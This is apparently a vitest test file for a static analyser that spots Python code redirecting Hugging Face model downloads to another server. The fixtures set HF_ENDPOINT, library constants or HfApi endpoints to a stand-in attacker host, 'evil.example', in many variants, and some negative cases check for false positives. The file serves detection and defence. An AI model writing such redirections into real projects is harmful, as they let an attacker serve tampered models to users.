import { describe, expect, it } from 'vitest';
import { linked } from '../../linking.ts';
import { loose } from '../../../../support/build.ts';

const LOAD = 'from transformers import AutoModel\nAutoModel.from_pretrained("org/a")\n';
const EVIL = 'https://evil.example';

describe('every way in which Python code sets the server counts (T9, T37)', () => {
  it.each<[string, string]>([
    ['|=', `import os\nos.environ |= {"HF_ENDPOINT": "${EVIL}"}\n`],
    ['|= of a name', `import os\nNEW = {"HF_ENDPOINT": "${EVIL}"}\nos.environ |= NEW\n`],
    ['|= of a call', `import os\nos.environ |= dict(HF_ENDPOINT="${EVIL}")\n`],
    ['update', `import os\nos.environ.update({"HF_ENDPOINT": "${EVIL}"})\n`],
    ['update by keyword', `import os\nos.environ.update(HF_ENDPOINT="${EVIL}")\n`],
    ['update of a name', `import os\nNEW = {"HF_ENDPOINT": "${EVIL}"}\nos.environ.update(NEW)\n`],
    ['update of a spread', `import os\nNEW = {"HF_ENDPOINT": "${EVIL}"}\nos.environ.update(**NEW)\n`],
    ['setdefault', `import os\nos.environ.setdefault("HF_ENDPOINT", "${EVIL}")\n`],
    ['putenv', `import os\nos.putenv("HF_ENDPOINT", "${EVIL}")\n`],
    ['environ by its own name', `from os import environ\nenviron["HF_ENDPOINT"] = "${EVIL}"\n`],
    ['environ by another name', `from os import environ as e\ne["HF_ENDPOINT"] = "${EVIL}"\n`],
    ['os by another name', `import os as o\no.environ["HF_ENDPOINT"] = "${EVIL}"\n`],
    ['setdefault of environ', `from os import environ\nenviron.setdefault("HF_ENDPOINT", "${EVIL}")\n`],
    ['putenv by its own name', `from os import putenv\nputenv("HF_ENDPOINT", "${EVIL}")\n`],
    ['a key in a constant', `import os\nKEY = "HF_" "ENDPOINT"\ndef f():\n  key = "HF_ENDPOINT"\n  os.environ[key] = "${EVIL}"\n`],
    ['a constant of the library', `import huggingface_hub\nhuggingface_hub.constants.ENDPOINT = "${EVIL}"\n`],
    ['a constant of the library, imported', `from huggingface_hub import constants\nconstants.ENDPOINT = "${EVIL}"\n`],
    ['a setting of datasets', `import datasets\ndatasets.config.HF_ENDPOINT = "${EVIL}"\n`],
  ])('%s', async (_name, code) => {
    expect((await linked({ 'app.py': code + LOAD })).sightings.map(loose).map(({ endpoint }) => endpoint)).toEqual([EVIL]);
  });

  it.each<[string, string]>([
    ['what a test sets for itself', `monkeypatch.setenv("HF_ENDPOINT", "${EVIL}")\n`],
    [
      'a dictionary of somebody else',
      `other["HF_ENDPOINT"] = "${EVIL}"\nother.update(HF_ENDPOINT="${EVIL}")\nmine.environment["HF_ENDPOINT"] = "${EVIL}"\n`,
    ],
    ['another variable', `import os\nos.environ |= {"TRANSFORMERS_OFFLINE": "1"}\n`],
    ['a text', `x = 'os.environ["HF_ENDPOINT"] = "${EVIL}"'\n`],
  ])('not %s', async (_name, code) => {
    expect((await linked({ 'app.py': code + LOAD })).sightings.map(loose).map(({ endpoint }) => endpoint)).toEqual([null]);
  });

  it.each<[string, string]>([
    ['the call', `from huggingface_hub import snapshot_download\nsnapshot_download("org/a", endpoint="${EVIL}")\n`],
    ['a spread dictionary', `from huggingface_hub import snapshot_download\nsnapshot_download("org/a", **{"endpoint": "${EVIL}"})\n`],
    ['the client', `from huggingface_hub import HfApi\nHfApi(endpoint="${EVIL}").snapshot_download("org/a")\n`],
    ['the client by position', `from huggingface_hub import HfApi\nHfApi("${EVIL}").hf_hub_download("org/a", "f")\n`],
    ['a client in a variable', `from huggingface_hub import HfApi\napi = HfApi(endpoint="${EVIL}")\napi.snapshot_download("org/a")\n`],
    [
      'a client of the object',
      `from huggingface_hub import HfApi\nclass K:\n  def __init__(self):\n    self.api = HfApi(endpoint="${EVIL}")\n  def f(self):\n    self.api.snapshot_download("org/a")\n`,
    ],
  ])('an endpoint that %s names', async (_name, code) => {
    expect((await linked({ 'app.py': code })).sightings.map(loose).map(({ endpoint }) => endpoint)).toEqual([EVIL]);
  });
});
